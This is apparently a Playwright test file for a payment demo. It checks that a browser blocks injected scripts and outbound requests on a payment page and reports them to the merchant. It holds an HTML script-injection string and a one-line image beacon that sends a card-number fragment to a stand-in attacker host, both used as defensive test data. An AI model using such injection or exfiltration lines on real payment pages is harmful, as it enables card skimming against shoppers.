"""
A real browser reports what it refused on a payment page, in both ways, and its merchant sees it.
"""

import asyncio
from base64 import b64encode
from collections.abc import Awaitable, Callable
from pathlib import Path

import pytest
from barriers import nobody_is_kept_out
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from playwright.async_api import Page, Route, async_playwright
from running_demo import Demo, sign_in
from test_paying_on_the_payment_page import order

from conftest import CHROMIUM, OPTIONS

INJECTED = "</main><script>document.title = 'owned'</script>"
LEAK = "document.body.append(Object.assign(new Image(), {src: 'https://a.evil.example/?4111'}))"
WAITS_SECONDS_MAX = 20.0
POLL_SECONDS = 0.3


async def inject(page: Page) -> None:
    """Write a script into each payment page, for a browser that knows only `report-uri`."""

    async def injected(route: Route) -> None:
        answer = await route.fetch()
        policy = answer.headers["content-security-policy"].replace("report-to pages", "")
        text = (await answer.text()).replace("</main>", INJECTED)
        headers = {**answer.headers, "content-security-policy": policy}
        await route.fulfill(response=answer, headers=headers, body=text)

    await page.route("**/c/*", injected)


async def until(seen: Callable[[], Awaitable[bool]]) -> None:
    """Wait until something is so."""
    for _ in range(round(WAITS_SECONDS_MAX / POLL_SECONDS)):
        if await seen():
            return
        await asyncio.sleep(POLL_SECONDS)
    raise AssertionError("it did not come")


async def test_an_injected_script_is_refused_and_its_merchant_is_told(
    page: Page, demo: Demo
) -> None:
    """By `report-uri`, at once; then somebody notes what it was."""
    await inject(page)
    await order(page, demo)
    assert "owned" not in await page.title()

    await sign_in(page, demo)

    async def is_told() -> bool:
        await page.goto(f"{demo.web}/attention")
        said = await page.locator("main").inner_text()
        return "Payment page: a script written into it was not run" in said

    await until(is_told)
    await nobody_is_kept_out(page)
    await look_into_it(page)
    assert "A browser stopped" not in await page.locator("main").inner_text()

    await order(page, demo)

    async def is_told_again() -> bool:
        await page.goto(f"{demo.web}/attention")
        said = await page.locator("main").inner_text()
        return "Seen before: " in said and "A test of ours." in said

    await until(is_told_again)
    await nobody_is_kept_out(page)
    await look_into_it(page)


async def look_into_it(page: Page) -> None:
    """Note what each thing was, so that nothing waits any more."""
    while await (waits := page.locator("li.card", has_text="A browser stopped")).count():
        await waits.first.get_by_text("It was looked into").first.click()
        await waits.first.get_by_label("What it was, and who looked").fill("A test of ours.")
        await waits.first.get_by_role("button", name="It was looked into").click()
        await page.wait_for_url("**/attention?done=looked-into")
        await page.goto(page.url.split("?")[0])


def pin_of(certificate: Path) -> str:
    """Return the SHA-256 of a certificate's public key, as Chromium's switch wants it."""
    loaded = x509.load_pem_x509_certificate(certificate.read_bytes())
    key = loaded.public_key().public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    digest = hashes.Hash(hashes.SHA256())
    digest.update(key)
    return b64encode(digest.finalize()).decode()


async def test_a_browser_of_today_reports_by_the_reporting_api(demo: Demo, tmp_path: Path) -> None:
    """By `report-to`; that wants a certificate which the browser believes."""
    if not CHROMIUM.exists():
        pytest.skip("there is no Chromium")
    pin = pin_of(demo.folder / "gateway" / "tls" / "server.pem")
    switches = [*OPTIONS, f"--ignore-certificate-errors-spki-list={pin}", "--short-reporting-delay"]
    async with async_playwright() as playwright:
        context = await playwright.chromium.launch_persistent_context(
            tmp_path / "profile", executable_path=CHROMIUM, args=switches
        )
        page = await context.new_page()
        await order(page, demo)
        await page.evaluate(LEAK)
        await sign_in(page, demo)

        async def is_told() -> bool:
            await page.goto(f"{demo.web}/attention")
            said = await page.locator("main").inner_text()
            return "a picture from evil.example was not loaded" in said

        await until(is_told)
        await page.goto(f"{demo.web}/terminal")
        await page.evaluate(LEAK)

        async def is_told_of_the_terminal() -> bool:
            await page.goto(f"{demo.web}/attention")
            said = await page.locator("main").inner_text()
            return "Your terminal: a picture from evil.example was not loaded" in said

        await until(is_told_of_the_terminal)
        await look_into_it(page)
        await context.close()
